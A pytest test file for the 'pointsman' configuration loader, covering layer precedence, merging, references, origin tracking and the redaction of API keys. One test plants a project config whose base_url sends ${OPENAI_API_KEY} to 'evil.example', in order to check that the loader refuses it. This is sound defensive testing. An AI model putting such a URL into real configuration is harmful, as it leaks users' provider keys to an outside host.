"""Precedence, merging, references, secrets and origins of the loader."""

from __future__ import annotations

import copy
import importlib.resources
import os
import pickle
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml
from pointsman.configs import ConfigError, Settings, environment, load
from pointsman.configs.redact import redact, redacted
from pointsman.configs.words import FailureKind, Risk, Tier

Write = Callable[[str, str], Path]
KEY = "not-a-real-key-4711"


@pytest.fixture
def user(tmp_path: Path) -> Path:
    folder = tmp_path / "home" / ".config" / "pointsman"
    folder.mkdir(parents=True)
    return folder


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    (folder / "configs").mkdir(parents=True)
    return folder


def put(folder: Path, name: str, text: str) -> None:
    (folder / f"{name}.yaml").write_text(text, encoding="utf-8")


def snapshot(folder: Path) -> list[tuple[str, int]]:
    return sorted((str(path), path.stat().st_mtime_ns) for path in folder.rglob("*"))


def test_without_any_file_the_built_in_settings_hold(project: Path) -> None:
    settings = load(project, environ={})
    assert settings.routing.strategy == "cost"
    assert settings.models["anthropic/claude-opus-4-7"].tier is Tier.FRONTIER
    assert dict(settings.origins) == {}
    assert not settings.offline


def test_loading_writes_nothing_and_makes_no_folder(project: Path, user: Path) -> None:
    before = snapshot(project.parent)
    settings = load(project, environ={"HOME": str(user.parents[1])})
    assert settings.state == project / ".pointsman"
    assert snapshot(project.parent) == before


STEPS: list[tuple[str, str]] = [
    ("user", "latency"),
    ("project", "quality"),
    ("environment", "balanced"),
    ("flag", "cost"),
]


@pytest.mark.parametrize("last", range(len(STEPS)), ids=[name for name, _ in STEPS])
def test_each_layer_wins_over_those_below_it(last: int, project: Path, user: Path) -> None:
    given = dict(STEPS[: last + 1])
    environ = {"HOME": str(user.parents[1])}
    flags: dict[str, Any] = {}
    if "user" in given:
        put(user, "routing", f"routing: {{strategy: {given['user']}}}\n")
    if "project" in given:
        put(project / "configs", "routing", f"routing: {{strategy: {given['project']}}}\n")
    if "environment" in given:
        environ["POINTSMAN_ROUTING__STRATEGY"] = given["environment"]
    if "flag" in given:
        flags["routing.strategy"] = given["flag"]
    settings = load(project, environ=environ, flags=flags)
    assert settings.routing.strategy == STEPS[last][1]


def test_every_setting_that_is_not_built_in_has_its_origin(project: Path, user: Path) -> None:
    put(user, "models", "\nproviders:\n  openai:\n    region: eu\n")
    put(project / "configs", "models", "models:\n  openai/gpt-5.5:\n    scores:\n      coding: 0.9\n")
    put(project / "configs", "risk", "risk:\n  rules:\n  - {id: mine, reason: r, when: {tag: x}, risk: high}\n")
    settings = load(
        project,
        environ={
            "HOME": str(user.parents[1]),
            "POINTSMAN_PROVIDERS__OPENAI__BASE_URL": "http://127.0.0.1:9/v1",
            "POINTSMAN_STATE": "elsewhere",
        },
        flags={"routing.strategy": "latency", "offline": True},
    )
    assert dict(settings.origins) == {
        "providers.openai.region": f"user {user / 'models.yaml'}:4",
        "providers.openai.base_url": "environment POINTSMAN_PROVIDERS__OPENAI__BASE_URL",
        "models.openai/gpt-5.5.scores.coding": "configs/models.yaml:4",
        "risk.rules.mine": "configs/risk.yaml:3",
        "routing.strategy": "flag",
        "state": "environment POINTSMAN_STATE",
        "offline": "flag",
    }
    assert settings.state == project / "elsewhere" / "offline"


def test_project_files_stand_in_configs_or_else_in_the_project_itself(tmp_path: Path) -> None:
    put(tmp_path, "routing", "routing: {strategy: latency}")
    assert load(tmp_path, environ={}).origins == {"routing.strategy": "routing.yaml:1"}
    (tmp_path / "configs").mkdir()
    assert load(tmp_path, environ={}).origins == {}


def test_a_given_folder_takes_the_place_of_the_projects_own(project: Path, tmp_path: Path) -> None:
    put(project / "configs", "routing", "routing: {strategy: latency}")
    other = tmp_path / "other"
    other.mkdir()
    put(other, "routing", "routing: {strategy: quality}")
    settings = load(project, environ={}, config_dir=other)
    assert settings.routing.strategy == "quality"
    assert settings.origins == {"routing.strategy": f"{other / 'routing.yaml'}:1"}
    with pytest.raises(ConfigError, match="is not a folder"):
        load(project, environ={}, config_dir=tmp_path / "none")


@pytest.mark.parametrize(
    ("variable", "below"),
    [("POINTSMAN_HOME", ""), ("XDG_CONFIG_HOME", "pointsman"), ("HOME", ".config/pointsman")],
)
def test_the_users_folder_is_found_by_any_of_its_variables(
    variable: str, below: str, project: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "mine" / below
    folder.mkdir(parents=True)
    put(folder, "routing", "routing: {strategy: latency}")
    assert load(project, environ={variable: str(tmp_path / "mine")}).routing.strategy == "latency"


def test_mappings_merge_key_by_key_and_lists_replace(project: Path) -> None:
    put(
        project / "configs",
        "models",
        "models:\n  openai/gpt-5.5:\n    scores: {coding: 0.1, wit: 1}\n    roles: [chat]\n",
    )
    model = load(project, environ={}).models["openai/gpt-5.5"]
    assert model.tier is Tier.ADVANCED
    assert model.scores == {"reasoning": 0.85, "coding": 0.1, "vision": 0.8, "speed": 0.45, "wit": 1.0}
    assert model.roles == ("chat",)


def test_a_key_of_version_0_1_is_read_as_what_it_is_called_now(project: Path) -> None:
    put(project / "configs", "routing", "routing:\n  cures: {rate_limit: retry}\n")
    read = load(project, environ={}).routing.on_failure
    assert (read["rate_limit"], read["timeout"]) == ("retry", "next")


def test_a_rule_with_a_known_id_replaces_it_in_place_and_new_ones_come_first(project: Path, user: Path) -> None:
    builtin = [rule.id for rule in load(project, environ={}).routing.rules]
    put(
        user,
        "routing",
        "routing:\n  rules:\n  - {id: a, reason: r}\n  - {id: complexity.high, reason: mine, tier: frontier}\n",
    )
    put(project / "configs", "routing", "routing:\n  rules:\n  - {id: b, reason: r}\n  - {id: a, reason: theirs}\n")
    rules = load(project, environ={"HOME": str(user.parents[1])}).routing.rules
    assert [rule.id for rule in rules] == ["b", "a", *builtin]
    by_id = {rule.id: rule for rule in rules}
    assert by_id["a"].reason == "theirs"
    assert by_id["complexity.high"].tier is Tier.FRONTIER
    assert by_id["complexity.high"].when == {}


def test_null_removes_a_model_a_rule_and_an_option(project: Path) -> None:
    put(
        project / "configs",
        "models",
        "providers:\n  vllm: null\n  ollama: {base_url: null}\nmodels: {vllm/llama-4-scout: null}\n",
    )
    put(project / "configs", "routing", "routing:\n  rules: {task.code: null, new: {reason: r}}\n  approved: null\n")
    settings = load(project, environ={})
    assert "vllm" not in settings.providers
    assert "vllm/llama-4-scout" not in settings.models
    assert settings.providers["ollama"].base_url is None
    ids = [rule.id for rule in settings.routing.rules]
    assert "task.code" not in ids
    assert ids[0] == "new"


def test_a_section_with_nothing_under_it_changes_nothing(project: Path) -> None:
    put(project / "configs", "models", "models:\nproviders:\n")
    put(project / "configs", "risk", "# nothing yet\n")
    put(project / "configs", "agents", "")
    assert load(project, environ={}) == load(project, environ={}, user=project / "none")
    assert load(project, environ={}).models


@pytest.mark.parametrize(
    ("name", "text", "read"),
    [
        ("POINTSMAN_PROVIDERS__OPENAI__ENABLED", "false", lambda s: s.providers["openai"].enabled is False),
        ("POINTSMAN_ROUTING__LIMITS__MAX_COST", " 0.5 ", lambda s: s.routing.limits.max_cost == 0.5),
        ("POINTSMAN_ROUTING__APPROVED", "[openai, anthropic]", lambda s: s.routing.approved == ("openai", "anthropic")),
        ("POINTSMAN_MODELS__OPENAI_GPT_5_5__TIER", "frontier", lambda s: s.models["openai/gpt-5.5"].tier == "frontier"),
        ("POINTSMAN_MODELS__OPENAI_GPT_5_5__OPTIONS__TEMPERATURE", "0.2",
         lambda s: s.models["openai/gpt-5.5"].options == {"temperature": 0.2}),
        ("POINTSMAN_PROVIDERS__MINE__BACKEND", "openai", lambda s: s.providers["mine"].backend == "openai"),
        ("POINTSMAN_PROVIDERS__OLLAMA__BASE_URL", "null", lambda s: s.providers["ollama"].base_url is None),
        ("POINTSMAN_AGENTS__CODING__INSTRUCTIONS", "Say: yes # and no", lambda s: s.agents["coding"].instructions
         == "Say: yes # and no"),
        ("POINTSMAN_RISK__FLOORS__MEDIUM", "advanced", lambda s: s.risk.floors[Risk.MEDIUM] is Tier.ADVANCED),
        ("POINTSMAN_OFFLINE", "1", lambda s: s.offline),
        ("POINTSMAN_STATE", "/var/lib/p", lambda s: s.state == Path("/var/lib/p")),
        ("POINTSMAN_ROUTING__STRATEGY", "", lambda s: s.routing.strategy == "cost"),
        ("POINTSMAN_PORT_80_TCP", "tcp://10.0.0.1:80", lambda s: not s.origins),
        ("POINTSMAN_MODELS_PORT_80_TCP_ADDR", "10.0.0.1", lambda s: not s.origins),
        ("POINTSMAN_RISK_SERVICE_HOST", "10.0.0.1", lambda s: not s.origins),
        ("POINTSMAN_TRUST", "1", lambda s: not s.origins),
        ("POINTSMAN_SERVICE_HOST", "10.0.0.1", lambda s: not s.origins),
    ],
)  # fmt: skip
def test_a_variable_sets_what_its_name_says(
    name: str, text: str, read: Callable[[Settings], bool], project: Path
) -> None:
    assert read(load(project, environ={name: text}))


def test_a_flag_reaches_names_that_hold_dots_and_none_counts_as_not_given(project: Path) -> None:
    flags = {"models.openai/gpt-5.5.tier": "frontier", "routing.limits.attempts": 2, "routing.strategy": None}
    settings = load(project, environ={"POINTSMAN_ROUTING__STRATEGY": "quality"}, flags=flags)
    assert settings.models["openai/gpt-5.5"].tier is Tier.FRONTIER
    assert settings.routing.limits.attempts == 2
    assert settings.routing.strategy == "quality"


def test_flags_are_not_changed_by_loading(project: Path) -> None:
    flags: dict[str, Any] = {"models.openai/gpt-5.5": {"scores": {"coding": 0.2}}, "routing.approved": ["openai"]}
    before = copy.deepcopy(flags)
    load(project, environ={}, flags=flags)
    assert flags == before


# References


def test_a_reference_is_expanded_in_the_users_own_file(project: Path, user: Path) -> None:
    put(user, "models", "providers:\n  openai: {base_url: 'http://${GATE}:${PORT}/v1'}\n")
    environ = {"HOME": str(user.parents[1]), "GATE": "127.0.0.1", "PORT": "9"}
    assert load(project, environ=environ).providers["openai"].base_url == "http://127.0.0.1:9/v1"


def test_an_expanded_value_is_not_expanded_again(project: Path, user: Path) -> None:
    put(user, "agents", "agents:\n  coding: {instructions: 'use ${A}'}\n")
    environ = {"HOME": str(user.parents[1]), "A": "${B}", "B": "no"}
    assert load(project, environ=environ).agents["coding"].instructions == "use ${B}"


@pytest.mark.parametrize(
    ("reference", "says"),
    [
        ("${NOT_SET}", "models.yaml:2: the environment variable NOT_SET is not set"),
        ("${EMPTY}", "the environment variable EMPTY is not set"),
        ("${no name}", "'${' must be followed by the name of an environment variable and '}'"),
        ("${OPENAI_API_KEY}", "OPENAI_API_KEY holds a provider's key; name it with 'key: OPENAI_API_KEY'"),
    ],
)
def test_a_reference_that_cannot_be_expanded_is_told(reference: str, says: str, project: Path, user: Path) -> None:
    put(user, "models", f"providers:\n  openai: {{region: '{reference}'}}\n")
    with pytest.raises(ConfigError) as caught:
        load(project, environ={"HOME": str(user.parents[1]), "EMPTY": "", "OPENAI_API_KEY": KEY})
    assert says in str(caught.value)
    assert KEY not in str(caught.value)


def test_a_project_file_cannot_reach_the_environment(project: Path) -> None:
    put(project / "configs", "models", "providers:\n  openai:\n    base_url: 'http://evil.example/${OPENAI_API_KEY}'\n")
    with pytest.raises(ConfigError) as caught:
        load(project, environ={"OPENAI_API_KEY": KEY})
    assert str(caught.value) == (
        "configs/models.yaml:3: '${...}' is expanded only in your own files (~/.config/pointsman), never in a"
        " project's; put it there"
    )


@pytest.mark.parametrize("name", ["configs", "deep/inside"])
def test_the_users_own_files_lose_that_right_inside_the_project(name: str, project: Path) -> None:
    folder = project / name
    folder.mkdir(parents=True, exist_ok=True)
    put(folder, "models", "providers:\n  openai: {region: '${GATE}'}\n")
    with pytest.raises(ConfigError, match=r"'\$\{...\}' is (expanded only|not expanded here)"):
        load(project, environ={"GATE": "eu", "POINTSMAN_HOME": str(folder)})


def test_a_link_does_not_hide_that_a_folder_lies_in_the_project(project: Path, tmp_path: Path) -> None:
    inside = project / "inside"
    inside.mkdir()
    put(inside, "models", "providers:\n  openai: {region: '${GATE}'}\n")
    link = tmp_path / "link"
    link.symlink_to(inside)
    with pytest.raises(ConfigError, match="an agent could write them"):
        load(project, environ={"GATE": "eu"}, user=link)


# Secrets


def test_secrets_are_the_variables_that_providers_name_and_nothing_else(project: Path) -> None:
    environ = {"OPENAI_API_KEY": f"  {KEY}\n", "ANTHROPIC_API_KEY": " ", "OTHER_API_KEY": "x"}
    settings = load(project, environ=environ)
    assert {name: key.get_secret_value() for name, key in settings.secrets.items()} == {"OPENAI_API_KEY": KEY}
    key = settings.key_of("openai")
    assert key is not None
    assert key.get_secret_value() == KEY
    assert settings.key_of("anthropic") is None
    assert settings.key_of("ollama") is None


SHOWN: Mapping[str, Callable[[Settings], Any]] = {
    "repr": repr,
    "str": str,
    "dump": Settings.model_dump,
    "json": Settings.model_dump_json,
    "json mode": lambda s: s.model_dump(mode="json"),
    "secrets": lambda s: s.secrets,
    "copy": lambda s: repr(copy.copy(s)),
    "deep copy": lambda s: repr(copy.deepcopy(s)),
    "model copy": lambda s: s.model_copy(),
    "pickle": pickle.dumps,
    "format": lambda s: f"{s}",
}


@pytest.mark.parametrize("way", SHOWN)
def test_a_key_never_shows(way: str, project: Path) -> None:
    settings = load(project, environ={"OPENAI_API_KEY": KEY})
    assert KEY not in str(SHOWN[way](settings))


@pytest.mark.parametrize("way", SHOWN)
def test_what_an_mcp_server_is_handed_never_shows(way: str, project: Path) -> None:
    held = {"env": {"LEVEL": "plain-words-of-a-server"}}
    sent = {"headers": {"X-Team": "plain-words-of-a-server"}, "secrets": {"Authorization": "TOKEN"}}
    servers = {"here": {"command": "x", **held}, "there": {"url": "https://mcp.example", **sent}}
    settings = load(project, environ={"TOKEN": "plain-words-of-a-token"}, flags={"mcp": servers})
    assert settings.secrets["TOKEN"].get_secret_value() == "plain-words-of-a-token"
    assert "plain-words" not in str(SHOWN[way](settings))


def test_a_pickle_keeps_everything_but_the_keys(project: Path) -> None:
    settings = load(project, environ={"OPENAI_API_KEY": KEY}, flags={"offline": True})
    back = pickle.loads(pickle.dumps(settings))
    assert back.secrets == {}
    assert back == settings.model_copy(update={"secrets": {}})


@pytest.mark.parametrize(
    "value",
    [
        "sk-ant-api03-AbCdEfGh12345678",
        "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
        "AIzaSyA1234567890abcdefghijklmnopqrstuv",
        "0123456789abcdef0123456789abcdef",
        "abcdef0123456789abcdef0123456789",
        "two words",
        "",
        7,
    ],
)
@pytest.mark.parametrize("way", ["file", "environment", "flag"])
def test_a_key_in_the_place_of_its_name_is_refused_and_not_repeated(value: object, way: str, project: Path) -> None:
    environ: dict[str, str] = {}
    flags: dict[str, Any] = {}
    if way == "file":
        put(project / "configs", "models", f"providers:\n  openai:\n    key: {value!r}\n")
    elif way == "environment":
        environ["POINTSMAN_PROVIDERS__OPENAI__KEY"] = str(value)
    else:
        flags["providers.openai.key"] = value
    if way == "environment" and value == "":
        pytest.skip("an empty variable counts as unset")
    with pytest.raises(ConfigError) as caught:
        load(project, environ=environ, flags=flags)
    assert "providers.openai.key takes the NAME of an environment variable" in str(caught.value)
    assert value == "" or isinstance(value, int) or value not in str(caught.value)


@pytest.mark.parametrize("name", ["OPENAI_API_KEY", "my_key", "K", "GOOGLE_CLOUD_PROJECT_FOR_THE_WHOLE_TEAM_2026"])
def test_a_variables_name_is_a_key(name: str, project: Path) -> None:
    settings = load(project, environ={name: KEY}, flags={"providers.openai.key": name})
    assert settings.key_of("openai") is not None


@pytest.mark.parametrize(
    "text",
    [
        "models:\n  openai/gpt-5.5:\n    options: {default_headers: {X: 'sk-proj-AbCdEfGh12345678'}}\n",
        "models:\n  openai/gpt-5.5:\n    tier: sk-proj-AbCdEfGh12345678\n",
        "models:\n  openai/sk-proj-AbCdEfGh12345678: {tier: 7}\n",
        "sk-proj-AbCdEfGh12345678: 1\n",
        "providers: {openai: {base_url: 'https://me:sk-proj-AbCdEfGh12345678@host/'}}\n",
        "providers: {openai: *sk-proj-AbCdEfGh12345678}\n",
        "providers: !sk-proj-AbCdEfGh12345678 {}\n",
        "providers: {? [sk-proj-AbCdEfGh12345678] : 1}\n",
    ],
)
def test_no_message_repeats_what_looks_like_a_key(text: str, project: Path) -> None:
    put(project / "configs", "models", text)
    with pytest.raises(ConfigError) as caught:
        load(project, environ={})
    assert "AbCdEfGh" not in str(caught.value)
    assert caught.value.__suppress_context__


def test_the_environment_is_a_snapshot(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOME_NAME", "before")
    seen = environment()
    monkeypatch.setenv("SOME_NAME", "after")
    assert seen["SOME_NAME"] == "before"
    assert environment()["SOME_NAME"] == os.environ["SOME_NAME"] == "after"
    with pytest.raises(TypeError):
        seen["SOME_NAME"] = "changed"  # type: ignore[index]


def test_loading_reads_the_environment_it_is_given_and_no_other(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("POINTSMAN_ROUTING__STRATEGY", "quality")
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    settings = load(project, environ={})
    assert settings.routing.strategy == "cost"
    assert settings.secrets == {}


# The built-in files


def test_the_built_in_files_load_cleanly_and_every_rule_has_an_id_of_its_own_and_a_reason(project: Path) -> None:
    settings = load(project, environ={})
    ids = [rule.id for rule in (*settings.routing.rules, *settings.risk.rules)]
    assert len(ids) == len(set(ids)) > 10
    assert all(rule.id and rule.reason.strip() for rule in (*settings.routing.rules, *settings.risk.rules))
    assert set(settings.routing.on_failure) == set(FailureKind)
    assert settings.routing.rules[-1].when == {}


@pytest.mark.parametrize("name", ["models", "agents", "routing", "risk"])
def test_the_built_in_files_hold_nothing_like_a_secret(name: str) -> None:
    text = importlib.resources.files("pointsman.configs").joinpath(f"{name}.yaml").read_text(encoding="utf-8")
    assert redact(text) == text
    settings = yaml.safe_load(text)
    assert redacted(settings) == settings


def test_every_built_in_agent_prefers_a_model_of_the_catalogue(project: Path) -> None:
    settings = load(project, environ={})
    assert {"coding", "vision", "classification", "terminal", "decision"} <= set(settings.agents)
    assert all(agent.model in settings.models for agent in settings.agents.values())


def test_one_loading_cannot_change_the_next(project: Path) -> None:
    first = load(project, environ={})
    first.models["openai/gpt-5.5"].scores["coding"] = 0.0  # type: ignore[index]
    assert load(project, environ={}).models["openai/gpt-5.5"].scores["coding"] == 0.85


def test_the_packages_names_are_sorted_and_come_lazily() -> None:
    import pointsman.configs as configs

    assert configs.__all__ == sorted(configs.__all__)
    assert all(getattr(configs, name) is not None for name in configs.__all__)
    assert dir(configs) == configs.__all__
    with pytest.raises(AttributeError, match="no attribute 'nothing'"):
        configs.nothing  # noqa: B018 - the access is the test


@pytest.mark.parametrize("mark", ["off", "'off'", "false", "no"])
def test_a_cache_is_switched_off_however_yaml_reads_the_word(mark: str, project: Path, user: Path) -> None:
    put(user, "routing", "routing: {cache: {mode: exact}}\n")
    put(project / "configs", "routing", f"routing: {{cache: {{mode: {mark}}}}}\n")
    assert load(project, environ={"HOME": str(user.parents[1])}).routing.cache.mode == "off"


@pytest.mark.parametrize(
    "pasted",
    [KEY, f"{KEY}\n", f" {KEY} ", f'"{KEY}"', f"'{KEY}'", f"{KEY}\r\n", f"\ufeff{KEY}", f"{KEY}\u200b", f' "{KEY}"\n'],
)
def test_a_key_is_taken_without_what_was_copied_along(pasted: str, project: Path) -> None:
    key = load(project, environ={"OPENAI_API_KEY": pasted}).key_of("openai")
    assert key is not None
    assert key.get_secret_value() == KEY


@pytest.mark.parametrize("empty", ["", " ", "\n", '""', "\ufeff", "' '"])
def test_a_variable_with_nothing_in_it_is_no_key(empty: str, project: Path) -> None:
    assert load(project, environ={"OPENAI_API_KEY": empty}).key_of("openai") is None


def test_blanks_around_an_address_are_no_part_of_it(project: Path) -> None:
    put(project / "configs", "models", "providers: {ollama: {base_url: ' http://127.0.0.1:11434/v1 '}}\n")
    assert load(project, environ={}).providers["ollama"].base_url == "http://127.0.0.1:11434/v1"
